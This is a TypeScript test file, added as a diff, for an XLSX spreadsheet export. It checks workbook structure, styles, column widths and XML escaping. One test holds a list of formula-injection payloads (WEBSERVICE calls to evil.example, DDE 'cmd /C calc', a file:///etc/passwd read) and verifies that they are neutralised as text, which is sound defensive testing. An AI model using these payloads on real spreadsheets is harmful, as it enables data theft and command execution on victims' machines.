@@ -1,0 +1,216 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import fc from 'fast-check';
+import type { Table } from '../../src/export/table.ts';
+import { writeXlsx } from '../../src/export/xlsx.ts';
+import { elements, readRows, readXml, readZip, type XmlElement } from './workbook-reader.ts';
+
+const table: Table = {
+  name: 'books',
+  hasHeader: true,
+  columns: [
+    { title: '상품명', type: 'text' },
+    { title: '상품번호', type: 'integer' },
+    { title: '정가', type: 'price' },
+  ],
+  rows: [
+    ['홍길동전', 1001, 15000],
+    ['', Number.MAX_SAFE_INTEGER, 0],
+  ],
+};
+
+function titles(...texts: string[]): Table {
+  return { ...table, columns: [{ title: '상품명', type: 'text' }], rows: texts.map((text) => [text]) };
+}
+
+function part(workbook: Buffer, name: string): XmlElement {
+  return readXml(readZip(workbook).get(name) ?? '');
+}
+
+function sheetOf(workbook: Buffer): XmlElement {
+  return part(workbook, 'xl/worksheets/sheet1.xml');
+}
+
+/** The style with which each cell is shown. */
+function stylesOf(workbook: Buffer): (Readonly<Record<string, string>> | undefined)[][] {
+  const formats = elements(part(workbook, 'xl/styles.xml'), 'cellXfs')[0]?.children ?? [];
+  return elements(sheetOf(workbook), 'row').map((row) =>
+    row.children.map((cell) => formats[Number(cell.attributes.s)]?.attributes),
+  );
+}
+
+test('a workbook holds the parts that its content types and relations name, and no other', () => {
+  const files = readZip(writeXlsx(table));
+  const types = readXml(files.get('[Content_Types].xml') ?? '');
+  const named = elements(types, 'Override').map(({ attributes }) => String(attributes.PartName).slice(1));
+  const plain = ['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels'];
+  assert.deepEqual([...files.keys()].sort(), [...plain, ...named].sort());
+  const relations = elements(readXml(files.get('xl/_rels/workbook.xml.rels') ?? ''), 'Relationship');
+  for (const { attributes } of relations) assert.ok(files.has(`xl/${attributes.Target}`));
+  const [sheet] = elements(part(writeXlsx(table), 'xl/workbook.xml'), 'sheet');
+  const target = relations.find(({ attributes }) => attributes.Id === sheet?.attributes['r:id']);
+  assert.equal(target?.attributes.Target, 'worksheets/sheet1.xml');
+  assert.equal(sheet?.attributes.name, 'books');
+});
+
+test('every part declares XML and is well-formed', () => {
+  for (const [name, xml] of readZip(writeXlsx(table))) {
+    assert.ok(xml.startsWith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'), name);
+    assert.ok(readXml(xml).children.length > 0, name);
+  }
+});
+
+test('texts are texts, integers and prices are numbers, an empty text is an empty cell', () => {
+  assert.deepEqual(readRows(writeXlsx(table)), [
+    ['상품명', '상품번호', '정가'],
+    ['홍길동전', 1001, 15000],
+    [null, Number.MAX_SAFE_INTEGER, 0],
+  ]);
+});
+
+test('prices have thousands separators, integers none, texts the text format; the header is bold', () => {
+  const workbook = writeXlsx(table);
+  const [header, row] = stylesOf(workbook);
+  // Built-in formats: 49 is "@", 1 is "0", 3 is "#,##0".
+  assert.deepEqual(
+    row?.map((style) => style?.numFmtId),
+    ['49', '1', '3'],
+  );
+  const fonts = elements(part(workbook, 'xl/styles.xml'), 'font');
+  const font = fonts[Number(header?.[0]?.fontId)];
+  assert.deepEqual(font?.children[0]?.name, 'b');
+  assert.ok(fonts[Number(row?.[0]?.fontId)]?.children.every((child) => child.name !== 'b'));
+});
+
+test('the header row is frozen and filterable over the whole table', () => {
+  const sheet = sheetOf(writeXlsx(table));
+  const [pane] = elements(sheet, 'pane');
+  assert.deepEqual(
+    [pane?.attributes.ySplit, pane?.attributes.topLeftCell, pane?.attributes.state],
+    ['1', 'A2', 'frozen'],
+  );
+  assert.equal(elements(sheet, 'autoFilter')[0]?.attributes.ref, 'A1:C3');
+  const [filtered] = elements(part(writeXlsx(table), 'xl/workbook.xml'), 'definedName');
+  assert.equal(filtered?.text, 'books!$A$1:$C$3');
+});
+
+test('without a header the first row is data, and nothing is frozen or filterable', () => {
+  const workbook = writeXlsx({ ...table, hasHeader: false });
+  assert.deepEqual(readRows(workbook)[0], ['홍길동전', 1001, 15000]);
+  const sheet = sheetOf(workbook);
+  assert.deepEqual([...elements(sheet, 'pane'), ...elements(sheet, 'autoFilter')], []);
+  assert.deepEqual(elements(part(workbook, 'xl/workbook.xml'), 'definedName'), []);
+});
+
+test('columns are as wide as their widest cell, wide characters counted twice, up to a limit', () => {
+  const width = (...texts: string[]) =>
+    Number(elements(sheetOf(writeXlsx(titles(...texts))), 'col')[0]?.attributes.width);
+  assert.equal(width('가'.repeat(10), 'a') - width('a'.repeat(10), 'a'), 10);
+  assert.equal(width('a'.repeat(21)) - width('a'.repeat(20)), 1);
+  assert.equal(width('a'.repeat(500)), width('가'.repeat(40)));
+  assert.equal(width('a'), width(''), 'the title of the column has room');
+  const price = (value: number) => {
+    const rows = [[value]];
+    const workbook = writeXlsx({ ...table, hasHeader: false, columns: [{ title: '', type: 'price' }], rows });
+    return Number(elements(sheetOf(workbook), 'col')[0]?.attributes.width);
+  };
+  assert.equal(price(1_000_000) - price(100), '1,000,000'.length - '100'.length);
+});
+
+const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', "'", '\u00a0='];
+const FORMULA_BODIES = [
+  '1+1',
+  'SUM(A1:A9)',
+  'HYPERLINK("https://evil.example","x")',
+  "cmd|' /C calc'!A0",
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'IMPORTXML("https://evil.example","//a")',
+  "'file:///etc/passwd'#$passwd.A1",
+  'DDE("cmd","/C calc","x")',
+];
+const PAYLOADS = FORMULA_STARTS.flatMap((start) => FORMULA_BODIES.map((body) => start + body));
+
+test('a text that looks like a formula is a text cell that stays one when it is edited', () => {
+  assert.ok(PAYLOADS.length >= 100);
+  const workbook = writeXlsx(titles(...PAYLOADS));
+  assert.deepEqual(elements(sheetOf(workbook), 'f'), []);
+  const cells = elements(sheetOf(workbook), 'c').slice(1);
+  for (const cell of cells) assert.equal(cell.attributes.t, 'inlineStr');
+  for (const [index, row] of stylesOf(workbook).slice(1).entries()) {
+    assert.deepEqual([row[0]?.quotePrefix, row[0]?.numFmtId], ['1', '49'], PAYLOADS[index]);
+  }
+});
+
+test('other texts carry no quote', () => {
+  const workbook = writeXlsx(titles('홍길동전', '1+1=2', 'a-b', 'x@y', '9788936434595'));
+  for (const row of stylesOf(workbook).slice(1)) assert.equal(row[0]?.quotePrefix, undefined);
+});
+
+test('any text comes back as it is, but for what XML cannot hold', () => {
+  const unit = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 8 }),
+    fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
+    fc.constantFrom('_x0041_', '_x', '&#0;', ']]>', '<f>', '\r\n', ' ', '"'),
+  );
+  const text = fc.array(unit, { maxLength: 6 }).map((units) => units.join(''));
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1, maxLength: 20 }), (texts) => {
+      const read = readRows(writeXlsx({ ...titles(...texts), hasHeader: false })).map(([cell]) => cell);
+      assert.deepEqual(
+        read,
+        texts.map((one) => held(one) || null),
+      );
+    }),
+  );
+});
+
+/** The characters of a text that XML 1.0 allows (its production Char), line breaks as newlines. */
+function held(text: string): string {
+  const allowed = (code: number) =>
+    code === 0x9 ||
+    code === 0xa ||
+    (code >= 0x20 && code <= 0xd7ff) ||
+    (code >= 0xe000 && code <= 0xfffd) ||
+    code >= 0x10000;
+  const unixLines = text.split('\r\n').join('\n').split('\r').join('\n');
+  return [...unixLines].filter((character) => allowed(character.codePointAt(0) ?? 0)).join('');
+}
+
+test('no text holds what Excel would read as an escaped character', () => {
+  const workbook = writeXlsx(titles('_x0041_', 'a_x000B_b_x000b_', '_x005F_x0041_', '_x_x0041_'));
+  for (const run of elements(sheetOf(workbook), 't')) assert.doesNotMatch(run.text, /_x[\dA-F]{4}_/i);
+});
+
+test('blanks at the ends are marked to be kept', () => {
+  const runs = elements(sheetOf(writeXlsx(titles(' a', 'a ', '\ta', 'a\n', 'a b'))), 't').slice(1);
+  const space = runs.map((run) => run.attributes['xml:space']);
+  assert.deepEqual(space, ['preserve', 'preserve', 'preserve', 'preserve', undefined]);
+});
+
+test('equal tables make equal bytes', () => {
+  assert.deepEqual(writeXlsx(structuredClone(table)), writeXlsx(table));
+});
+
+test('a column beyond Z has a name of two letters', () => {
+  const columns = Array.from({ length: 28 }, () => ({ title: '', type: 'integer' as const }));
+  const workbook = writeXlsx({ name: 'wide', hasHeader: false, columns, rows: [columns.map((_, i) => i)] });
+  const places = elements(sheetOf(workbook), 'c').map((cell) => cell.attributes.r);
+  assert.deepEqual(places.slice(24), ['Y1', 'Z1', 'AA1', 'AB1']);
+});
+
+test('a cell that does not fit its column, a row of another length, or a bad sheet name is refused', () => {
+  const number = [{ title: 'n', type: 'integer' as const }];
+  for (const cell of ['1', 1.5, Number.NaN, 2 ** 53]) {
+    assert.throws(() => writeXlsx({ ...table, columns: number, rows: [[cell]] }), TypeError);
+  }
+  assert.throws(() => writeXlsx({ ...titles(), rows: [[1]] }), TypeError);
+  assert.throws(() => writeXlsx({ ...table, rows: [['a', 1]] }), RangeError);
+  for (const name of ['', 'a'.repeat(32), 'a/b', "a'b"]) {
+    assert.throws(() => writeXlsx({ ...table, name }), RangeError);
+  }
+});
+
+test('more rows than a sheet has are refused', () => {
+  const rows: Table['rows'] = Array.from({ length: 1_048_576 }, () => []);
+  assert.throws(() => writeXlsx({ ...table, rows }), RangeError);
+});
